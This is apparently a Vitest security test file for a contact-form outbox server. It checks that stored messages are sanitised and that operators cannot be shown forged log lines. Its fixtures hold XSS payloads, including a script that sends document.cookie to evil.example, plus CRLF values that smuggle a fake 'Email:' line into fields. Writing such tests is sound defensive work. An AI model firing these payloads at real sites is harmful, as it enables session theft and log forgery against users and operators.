import { afterEach, describe, expect, it } from 'vitest';
import { printOutbox } from '../server/spawnServer';
import { makeOutbox, payload } from './helpers';

let outbox: Awaited<ReturnType<typeof makeOutbox>>;
afterEach(() => outbox?.cleanup());

// Posted straight to the endpoint, skipping the browser's own sanitising, as an attacker would.
const HOSTILE = {
  name: 'Name: <img src=x onerror="alert(1)">Mallory<svg/onload=alert(2)>',
  email: 'Email: "><script>alert(document.cookie)</script>@evil.example',
  message:
    'Message: <script>fetch("//evil.example/"+document.cookie)</script><a href="javascript:alert(3)" onclick="x()">click</a>' +
    '<iframe src="//evil.example"></iframe><style>body{display:none}</style>' +
    '\u202Egnp.exe\u202C 🙂👩🏽‍💻 \u0000\u001b[2J\u001b[31mred\u0007 Zalgo: Z̷̢̛a̸l̴g̵o̶',
};

describe('hostile strings posted to the outbox', () => {
  it('are stored inert: no tag, attribute or script survives, and control characters are gone', async () => {
    outbox = await makeOutbox();
    const response = await outbox.post(payload(HOSTILE));
    expect(response.status).toBe(200);
    const record = JSON.parse((await outbox.lines())[0]!);
    for (const value of [record.name, record.email, record.message] as string[]) {
      expect(value).not.toMatch(/[<>]/);
      for (const control of ['\u0000', '\u001b', '\u0007']) expect(value).not.toContain(control);
    }
    expect(record.name).toBe('Name: Mallory');
    expect(record.email).toBe('Email: "&gt;@evil.example');
    expect(record.message).not.toMatch(/document\.cookie|display:none/);
    expect(record.message).toContain('click');
    // Unusual but legitimate text is kept as written: bidi controls, emoji, combining marks.
    expect(record.message).toContain('\u202Egnp.exe\u202C 🙂👩🏽‍💻');
    expect(record.message).toContain('Z̷̢̛a̸l̴g̵o̶');
    expect(record.message).toContain('[2J[31mred');
  });

  it('keeps the file one record per line whatever newlines the message holds', async () => {
    outbox = await makeOutbox();
    await outbox.post(payload({ message: 'Message: line one\nline two\r\n\u2028line three' }));
    await outbox.post(payload());
    const lines = await outbox.lines();
    expect(lines).toHaveLength(2);
    expect(JSON.parse(lines[0]!).message).toBe('Message: line one\nline two\r\n\u2028line three');
  });
});

describe('F5: forged lines in the operator’s view', () => {
  it('npm run outbox shows a name holding a line break on one line, so no second "Email:" line appears', async () => {
    outbox = await makeOutbox();
    for (const name of [
      'Name: Eve\r\nEmail: boss@company.example',
      'Name: Eve&#10;Email: boss@company.example',
      'Name: Eve&#13;&#10;Email: boss@company.example',
    ]) {
      expect((await outbox.post(payload({ name }))).status).toBe(200);
    }
    const printed = await printOutbox({ OUTBOX_FILE: outbox.file });
    expect(printed).toContain('3 messages in');
    const emailLines = printed.split('\n').filter((line) => line.startsWith('Email:'));
    expect(emailLines).toEqual(Array(3).fill('Email:   ada@example.com'));
    expect(printed).toContain('Name:    Eve\\u{000A}Email: boss@company.example');
  });

  it.each(['service_id', 'template_id', 'user_id', 'lib_version'])(
    'refuses a %s that is not a plain token',
    async (field) => {
      outbox = await makeOutbox();
      const res = await outbox.post(payload({}, { [field]: 'outbox\r\nEmail: boss@company.example' }));
      expect(res.status).toBe(400);
      expect((await res.json()).error).toBe(`${field} may hold only letters, digits, "_", "-" and "."`);
      expect(await outbox.lines()).toEqual([]);
    },
  );
});
